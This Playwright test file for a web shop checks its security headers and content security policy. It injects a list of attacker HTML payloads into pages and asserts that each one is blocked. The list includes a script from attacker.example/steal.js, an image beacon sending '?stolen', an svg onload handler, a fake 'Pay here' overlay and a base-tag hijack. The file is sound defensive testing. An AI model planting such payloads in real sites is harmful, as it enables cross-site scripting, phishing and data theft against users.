import { expect } from '@playwright/test';
import { charger } from './support/products.ts';
import { indexed, unindexed } from './support/public-pages.ts';
import { test } from './support/test.ts';

const product = `/product/${charger.slug}`;
/** What the shop of the journeys trusts besides itself: its tag manager. */
const trusted = ['https://*.googletagmanager.com'];
const connected = ['https://*.google-analytics.com', 'https://*.analytics.google.com'];

test('every kind of page has strict security headers', { tag: '@desktop' }, async ({ request }) => {
  const paths = Object.values({ ...indexed, ...unindexed }).map(([[path]]) => path.replace('PRODUCT', product));
  for (const path of [...paths, '/sign-in', '/no-such-page']) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
    const directives = (headers['content-security-policy'] ?? '').split('; ').map((text) => text.split(' '));
    const { 'script-src': scripts = [], ...policy } = Object.fromEntries(
      directives.map(([name = '', ...sources]) => [name, sources]),
    );
    expect(
      scripts.filter((source) => !source.startsWith("'sha256-")),
      path,
    ).toEqual(["'self'", ...trusted]);
    expect(policy, path).toEqual({
      'default-src': ["'self'"],
      'style-src': ["'self'"],
      'img-src': ["'self'", 'data:', 'blob:', ...trusted, ...connected],
      'connect-src': ["'self'", ...trusted, ...connected],
      'frame-src': ["'self'", ...trusted, 'https://www.youtube-nocookie.com'],
      'object-src': ["'none'"],
      'base-uri': ["'none'"],
      'form-action': ["'self'"],
      'frame-ancestors': ["'none'"],
    });
  }
  for (const path of [
    '/pim/api/categories/menu',
    '/images/placeholder.svg',
    '/healthz',
    '/sitemap.xml',
    '/favicon.svg',
  ])
    expect((await request.get(path)).headers()['x-content-type-options'], path).toBe('nosniff');
});

/** What an attacker would bring into a page, and the directive of the content security policy that refuses it. */
const injections = {
  '<script>injected = true</script>': 'script-src-elem',
  '<script nonce="">injected = true</script>': 'script-src-elem',
  '<script src="https://attacker.example/steal.js"></script>': 'script-src-elem',
  '<svg onload="injected = true"></svg>': 'script-src-attr',
  '<p style="position: fixed; inset: 0">Pay here</p>': 'style-src-attr',
  '<style>main { display: none }</style>': 'style-src-elem',
  '<link rel="stylesheet" href="https://attacker.example/style.css">': 'style-src-elem',
  '<img src="https://attacker.example/?stolen">': 'img-src',
  '<object data="https://attacker.example/"></object>': 'object-src',
  '<iframe src="https://attacker.example/"></iframe>': 'frame-src',
  '<base href="https://attacker.example/">': 'base-uri',
};

for (const path of ['/', product, '/cart'])
  test(`what is injected into ${path} does not run, load or change how the page looks`, {
    tag: '@desktop',
  }, async ({ page, consoleErrors }) => {
    consoleErrors.allow(/Content Security Policy|ERR_BLOCKED_BY_CSP|attacker\.example/);
    await page.addInitScript(() => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    });
    await page.route(
      (url) => url.pathname === path,
      async (route) => {
        const response = await route.fetch();
        const injected = Object.keys(injections).join('');
        const body = (await response.text()).replace(/<body[^>]*>/, (start) => start + injected);
        await route.fulfill({ response, body });
      },
    );
    await page.goto(path);
    const refused = () => page.evaluate(() => [...(window as unknown as { refused: string[] }).refused].sort());
    await expect.poll(refused).toEqual(Object.values(injections).sort());
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => fetch('https://attacker.example/').catch(() => undefined));
    await expect.poll(refused).toContain('connect-src');
  });
